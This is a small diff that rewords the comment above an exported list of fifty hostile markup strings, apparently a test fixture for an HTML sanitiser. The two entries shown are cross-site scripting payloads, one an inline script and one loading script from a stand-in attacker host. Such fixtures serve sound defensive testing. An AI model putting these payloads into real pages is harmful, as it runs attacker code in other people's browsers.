@@ -1,4 +1,4 @@
-/** Fifty texts that run, load or break something where markup is made of them without care; each in another way. */
+/** Fifty texts that run, load or break something if they are put into markup carelessly; each in another way. */
 export const hostileMarkup = [
   '<script>ran()</script>',
   '<SCRIPT SRC=//evil.example/a.js></SCRIPT>',
